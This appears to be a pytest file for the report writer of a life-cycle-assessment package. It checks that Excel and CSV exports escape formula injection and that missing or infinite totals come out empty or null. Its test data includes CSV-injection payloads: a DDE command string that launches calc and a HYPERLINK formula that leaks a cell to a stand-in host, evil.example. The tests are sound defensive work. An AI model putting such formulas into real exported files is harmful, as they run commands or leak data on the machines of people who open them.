@@ -1,0 +1,189 @@
+"""Report files are safe to open and say what they hold: no formula from user text in Excel or CSV, a
+not-covered total is an empty cell or null (never 0), the JSON is valid, large tables leave a valid workbook."""
+
+from __future__ import annotations
+
+import csv
+import json
+import math
+
+import pandas as pd
+import pytest
+import yaml
+from openpyxl import load_workbook
+
+from lca_numerique.inventory import inventory_from_text
+from lca_numerique.report import SHEETS, neutralise, write_report, write_workbook
+
+# Cells a spreadsheet program would run (OWASP CSV injection), as service, campaign, hosting, organisation names
+# and basis texts.
+HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2+3", "@SUM(1)",
+           "\tTAB", "=1+1"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_inventory_text() -> str:
+    data = {
+        "organisation": "=2+5", "period": "@2025",
+        "hostings": [{"name": "@SUM(1)", "servers": 1, "storage": "1 TB", "basis": "=A1"}],
+        "campaigns": [{"name": '=HYPERLINK("http://evil.example","x")', "services": [
+            {"kind": "website", "name": HOSTILE[0], "visits": 1000, "page_weight": "1 MB", "hosting": "@SUM(1)",
+             "basis": "=cmd|' /C calc'!A0"},
+            {"kind": "print", "name": HOSTILE[1], "copies": 100, "pages": 4, "basis": "+33 1 23"},
+        ]}],
+        "services": [{"kind": "website", "name": name, "visits": 10 + i, "page_weight": "0.5 MB", "basis": "-x"}
+                     for i, name in enumerate(HOSTILE[2:])],
+    }
+    return yaml.safe_dump(data, allow_unicode=True)
+
+
+@pytest.fixture(scope="module")
+def hostile_report(tmp_path_factory):
+    inventory = inventory_from_text(hostile_inventory_text(), "hostile.yaml")
+    out = tmp_path_factory.mktemp("hostile") / "report"
+    write_report(inventory.evaluate(), inventory, out, ["xlsx", "csv", "json"])
+    return out
+
+
+def test_no_formula_cell_in_the_workbook(hostile_report):
+    book = load_workbook(hostile_report / "report.xlsx")
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    # the names are there, escaped with a leading quote, and nowhere unescaped
+    for name in HOSTILE:
+        assert "'" + name in texts
+        assert name not in texts
+    assert not [t for t in texts if t.startswith(FORMULA_START)]
+    assert "'=cmd|' /C calc'!A0" in {c.value for c in book["assumptions"]["H"]}  # a basis text
+
+
+def test_no_csv_cell_starts_a_formula(hostile_report):
+    with open(hostile_report / "results.csv", encoding="utf-8", newline="") as stream:
+        cells = [cell for row in csv.reader(stream) for cell in row]
+    dangerous = [c for c in cells if c.startswith(FORMULA_START)]
+    for cell in dangerous:  # only negative numbers may start with '-'
+        assert math.isfinite(float(cell)), cell
+    assert {"'" + name for name in HOSTILE} <= set(cells)
+
+
+def test_neutralise_keeps_numbers_and_missing_values():
+    frame = pd.DataFrame({"name": ["=1+1", "ok", None, "-x"], "value": [-1.5, 2.0, math.nan, 3.0],
+                          "code": pd.Categorical(["@a", "b", "@a", "=c"])})
+    safe = neutralise(frame)
+    assert safe["name"].tolist()[:2] == ["'=1+1", "ok"] and safe["name"].isna().tolist() == [False, False, True, False]
+    assert safe["name"].iloc[3] == "'-x"
+    assert safe["value"].tolist()[:2] == [-1.5, 2.0] and math.isnan(safe["value"].iloc[2])
+    assert safe["code"].astype(str).tolist() == ["'@a", "b", "'@a", "'=c"]
+
+
+def test_labels_escaping_to_the_same_text_stay_distinct():
+    frame = pd.DataFrame({"code": pd.Categorical(["=a", "'=a"])})
+    assert neutralise(frame)["code"].tolist() == ["'=a", "'=a"]  # both inert; the second was literal text
+
+
+def test_control_characters_and_long_texts_make_a_valid_workbook(tmp_path):
+    frame = pd.DataFrame({"name": ["\x1b[31mred\x1b[0m", "bell\x07", "x" * 40_000], "value": [1.0, 2.0, 3.0]})
+    write_workbook({"t": frame}, tmp_path / "t.xlsx")
+    values = [c.value for c in load_workbook(tmp_path / "t.xlsx")["t"]["A"]][1:]
+    assert values[0] == "[31mred[0m" and values[1] == "bell"
+    assert len(values[2]) == 32_767 and values[2].endswith("[truncated]")
+
+
+def test_not_covered_totals_are_empty_and_flagged_in_every_format(hostile_report):
+    # print has no ecotoxicity factor in the bundled data (the explain test shows it): its CTUe total is not covered
+    frame = pd.read_csv(hostile_report / "results.csv", keep_default_na=False)
+    not_covered = frame[frame["coverage"] == "not covered"]
+    assert len(not_covered) > 0
+    assert set(not_covered["value"]) == {""}
+    book = load_workbook(hostile_report / "report.xlsx")
+    rows = list(book["by_service"].iter_rows(values_only=True))
+    header = rows[0]
+    flagged = [r for r in rows[1:] if r[header.index("coverage")] == "not covered"]
+    assert flagged and all(r[header.index("value")] is None for r in flagged)
+    document = json.loads((hostile_report / "results.json").read_text(encoding="utf-8"),
+                          parse_constant=lambda name: pytest.fail(f"invalid JSON constant {name}"))
+    outputs = document["outputs"]
+    nulls = 0
+    for s, service in enumerate(outputs["values"]):
+        for t, tier in enumerate(service):
+            for c, phases in enumerate(tier):
+                if outputs["missing"][s][t][c] and not outputs["found"][s][t][c]:
+                    assert phases == [None] * len(phases)
+                    nulls += 1
+                else:
+                    assert None not in phases
+    assert nulls > 0
+
+
+def test_results_json_has_null_for_infinite_values(tmp_path):
+    import dataclasses
+
+    import numpy as np
+
+    inventory = inventory_from_text(hostile_inventory_text(), "hostile.yaml")
+    results = inventory.evaluate()
+    broken = np.array(results.factor_values)
+    broken[0, 0, 0] = np.inf  # what a degenerate override (a lifetime of 1e-320) produced
+    results = dataclasses.replace(results, factor_values=broken)
+    write_report(results, inventory, tmp_path / "r", ["json"])
+    text = (tmp_path / "r" / "results.json").read_text(encoding="utf-8")
+    json.loads(text, parse_constant=lambda name: pytest.fail(f"invalid JSON constant {name}"))
+    assert "Infinity" not in text and "NaN" not in text
+
+
+def test_tables_beyond_the_budget_go_to_csv_and_the_workbook_says_so(tmp_path):
+    inventory = inventory_from_text(hostile_inventory_text(), "hostile.yaml")
+    from lca_numerique.report import report_tables
+
+    tables = report_tables(inventory.evaluate(), inventory)
+    moved = write_workbook(tables, tmp_path / "report.xlsx", descriptions=SHEETS, max_cells=400)
+    book = load_workbook(tmp_path / "report.xlsx")
+    assert book.sheetnames == list(SHEETS)  # every sheet, none truncated
+    expected = [n for n in SHEETS if n in moved]
+    assert expected and "summary" not in moved  # the first sheets fit in the budget, later big ones moved
+    for name, path in moved.items():
+        note = list(book[name].iter_rows(values_only=True))
+        assert note[0] == ("note", "file", "rows", "columns")
+        assert note[1][1] == f"{name}.csv" and note[1][2] == len(tables[name])
+        back = pd.read_csv(path)
+        assert list(back.columns) == list(tables[name].columns) and len(back) == len(tables[name])
+    kept = [n for n in SHEETS if n not in moved]
+    assert sum(tables[n].size for n in kept) <= 400
+
+
+def test_a_large_portfolio_gives_a_valid_bounded_workbook_quickly(tmp_path):
+    """1,500 services (6,000 rows per criterion in by_phase): the workbook stays within its cell budget, every
+    table is complete in the workbook or in the CSV its sheet names, and writing is linear (seconds, not the
+    minutes the former per-cell writer took)."""
+    import time
+
+    import numpy as np
+
+    import lca_numerique as lca
+    from lca_numerique.axes import PHASE_IDS
+    from lca_numerique.criteria import CRITERION_IDS
+    from lca_numerique.flows import FLOWS
+    from lca_numerique.report.tables import labelled_tables
+
+    n, rng = 1_500, np.random.default_rng(0)
+    budget = 60_000  # a quarter of the default, to keep the test short
+    flows = tuple(list(FLOWS)[:12])
+    matrix = lca.BillMatrix.from_arrays([f"=s{i}" for i in range(n)], flows, rng.lognormal(size=(n, len(flows))),
+                                        rng.integers(1, 10_000, n), "visit")
+    factors = lca.FactorSet(id="synthetic", version="0", title="random", licence="none", sources={}, flows=flows,
+                            criteria=CRITERION_IDS, values=rng.lognormal(size=(len(flows), len(CRITERION_IDS),
+                                                                                 len(PHASE_IDS))),
+                            covered=np.ones((len(flows), len(CRITERION_IDS)), dtype=bool), factors={})
+    results = lca.evaluate(matrix, factors)
+    start = time.process_time()
+    tables = labelled_tables(results)
+    moved = write_workbook(tables, tmp_path / "report.xlsx", descriptions=SHEETS, max_cells=budget)
+    elapsed = time.process_time() - start
+    book = load_workbook(tmp_path / "report.xlsx", read_only=True)
+    assert book.sheetnames == list(SHEETS)
+    kept = [name for name in SHEETS if name not in moved]
+    assert "by_phase" in moved and sum(tables[name].size for name in kept) <= budget
+    for name, path in moved.items():
+        assert len(path.read_text(encoding="utf-8").splitlines()) == len(tables[name]) + 1
+    assert elapsed < 20, f"{elapsed:.1f} s of CPU"
